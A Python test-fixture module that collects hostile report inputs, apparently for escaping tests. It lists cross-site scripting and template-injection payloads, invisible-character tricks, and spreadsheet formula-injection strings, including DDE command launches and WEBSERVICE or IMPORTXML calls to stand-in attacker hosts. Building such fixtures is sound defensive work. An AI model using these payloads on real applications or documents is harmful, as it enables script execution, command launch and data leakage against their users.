"""What a reviewer might write to make a report do something, and the places of the fixture where it can stand."""

from __future__ import annotations

SINKS = (
    "stage", "touchpoint", "run", "notice", "project", "company", "goal", "scope", "metric", "quote", "source", "channel",
    "label", "theme", "keyword", "persona", "reason", "need", "gap", "opportunity", "control", "file", "notes", "fault",
    "owner", "solution", "question", "found", "asked", "moment", "funnel",
)  # fmt: skip

EVENTS = (
    "onerror", "onload", "onclick", "onfocus", "onblur", "onmouseover", "onpointerenter", "onanimationstart", "ontransitionend", "ontoggle", "onbeforetoggle",
    "onwheel", "onscroll", "onpaste", "oncopy", "ondrag", "oninput", "onchange", "onsubmit", "onkeydown", "onbegin", "onend", "onhashchange", "onmessage",
    "onpageshow", "onresize", "onunload", "oncanplay", "onloadstart", "ontouchstart", "onauxclick", "oncontextmenu", "onsecuritypolicyviolation",
)  # fmt: skip
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "&#106;avascript:alert(1)", "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)", "//evil.test/x.js", "blob:https://evil.test/1",
    "view-source:javascript:1", "feed:javascript:alert(1)", "file:///etc/passwd", "\\\\evil.test\\share",
)  # fmt: skip
SCRIPTS = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "\"><b>bold</b>", "'><b>bold</b>", "' onmouseover='alert(1)", '" onfocus="alert(1)" a="',
    "</style><script>alert(1)</script>", "</title><h1>x</h1>", "</td></tr></table><p>out", "</bdi></q><h1>x", "</details>", "<!--",
    "-->", "<!-- --!><b>", "]]><b>", "<![CDATA[<b>]]>", "<?xml version='1.0'?>", "<!DOCTYPE html>", "&lt;b&gt;", "&#60;b&#62;",
    "&amp;lt;", "&nbsp", "javascript:alert(1)", "data:text/html,<b>", "{{ 7*7 }}", "{% raw %}{{", "{# gone #}", "${7*7}", "%3Cb%3E",
    "<a href='https://evil.test'>x</a>", "[x](javascript:alert(1))", "![x](https://evil.test/x.png)", "`<b>`", "| a | b |", "# head",
    "<iframe srcdoc='<b>'>", "<base href='//evil.test'>", "<meta http-equiv=refresh content=0>", "<link rel=stylesheet href=//e.t>",
    "<form action=//e.t><input>", "<math><mi>x", "<template><b>", "<plaintext>", "<textarea>", "<noscript><b>", "<xmp>",
    "\u202ereversed\u202c", "\u2066isolated", "\ufeff<b>x", "\u0000<b>nul", "<b\u0000>x", "\u2028<b>line", "\r\n\r\n<b>lines",
    "＜script＞", "<scr\u200bipt>alert(1)</scr\u200bipt>", "x" * 400, "a\u0301" + "\u0301" * 60, "😀" * 90,
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script/>",
    "<script>alert(1)//", "<script src=data:,alert(1)>", "<svg/onload=alert(1)//", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=//e.t>",
    "<svg><foreignObject><iframe src=//e.t>", "<svg><use href='data:image/svg+xml,<svg/>'>", "<svg><style>@import '//e.t'</style>", "<object data=//e.t>",
    "<embed src=//e.t>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<body onload=alert(1)>", "<html onclick=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<select onchange=alert(1)><option>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>",
    "<table background='javascript:alert(1)'>", "<div style='background:url(//e.t)'>", "<div style=\"width:expression(alert(1))\">", "</text><script>alert(1)",
    "</svg><script>alert(1)</script>", "</desc></svg><p>", "</pattern></defs><image href=//e.t>", "<image href='//e.t/x.png'/>",
    "<set attributeName=href to=//e.t>",
    "<isindex action=javascript:alert(1)>", "<frameset onload=alert(1)>", "<portal src=//e.t>", "<dialog open>x</dialog>", "<slot name=x>", "<b id=facts>",
    "</script ><img>", "<img src=`x`onerror=alert(1)>", "<img src=x onerror=&#97;lert(1)>", "<IMG SRC=x ONERROR=alert(1)>", "<img/src=x/onerror=alert(1)>",
    "\"/><script>alert(1)</script>", "'/><script>alert(1)</script>", "--><script>alert(1)</script><!--", "*/alert(1)/*", "';alert(1)//", '";alert(1)//',
    "\\\";alert(1)//", "\u2028alert(1)", "</script\u2028>", "{{constructor.constructor('alert(1)')()}}", "{% include '/etc/passwd' %}", "{{ config }}",
    "{{ ''.__class__ }}", "#{7*7}", "<%= 7*7 %>", "[[7*7]]", "<!--#exec cmd=x-->", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<xml id=x>", "<?php echo 1 ?>", "<a:hlinkClick r:id='rId1'/>", "</a:t></a:r><a:t>", "<c:externalData r:id='rId9'/>", "<f>1+1</f>",
    "</t></is></c><c><f>1</f>",
    "> quoted", "1. one", "- list", "***bold***", "~~~\ncode", "<https://evil.test>", "[x]: https://evil.test", "\\[x\\](//e.t)", "![][x]", ":smile:",
    "@all", "$$x$$",
    *(f"<b {event}=alert(1)>x" for event in EVENTS),
    *(f"<a href=\"{address}\">x</a>" for address in ADDRESSES),
)  # fmt: skip
"""Markup, scripts, templates, invisible characters."""

FUNCTIONS = (
    "HYPERLINK(\"http://e.t\",\"x\")", "WEBSERVICE(\"http://e.t\")", "IMPORTXML(\"http://e.t\",\"//a\")", "IMPORTDATA(\"http://e.t\")",
    "IMPORTRANGE(\"k\",\"A1\")",
    "IMAGE(\"http://e.t\")", "DDE(\"cmd\";\"/c calc\";\"x\")", "RTD(\"x\",,\"y\")", "CALL(\"k\",\"W\",\"J\")", "EXEC(\"calc\")", "INDIRECT(\"A1\")",
    "CELL(\"filename\")",
    "FILES(\"*\")", "REGISTER.ID(\"x\",\"y\")", "SUM(A1:A9)", "A1", "'C:\\[x.xlsx]S'!A1", "1/0",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "{=1+1}", "=cmd|'/c calc'!A1", '=HYPERLINK("http://e.t","x")',
    "＝1+1", "＋1", "－1", "＠SUM", "x;=1+1", 'x";=1+1', "x,=1+1", "x\t=1+1", "x\n=1+1", '"=1+1"', "'=1+1", "x|@SUM", "x,-1",
    "http://evil.test/", "https://evil.test/", "mailto:a@evil.test", "ftp://evil.test", "www.evil.test", "internal:Sheet1!A1",
    "external:c:\\x.xlsx", "file:///etc/passwd", "\\\\evil\\share", "a@evil.test",
    "\n=1+1", "\v=1+1", "\u0085=1+1", "\u2028=1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\x00=1+1", "''=1+1", "\"\"=1+1", "' =1+1", "x|=1+1",
    "x; +1", "x, @A1", "x\r\n-1",
    "==1+1", "=-1", "+-@=1", "-2+3+cmd|' /C calc'!A0", "@=1", "=1,=1;=1|=1", "0=1,=2",
    *(f"={function}" for function in FUNCTIONS),
    *(f"{sign}{FUNCTIONS[0]}" for sign in ("+", "-", "@", "\t=", "\u3000=", "＝", "＋", "＠", "{=")),
)  # fmt: skip
"""What a spreadsheet would take for a formula or a link, at the start of a cell or after another delimiter."""

HOSTILE = (*SCRIPTS, *FORMULAS)
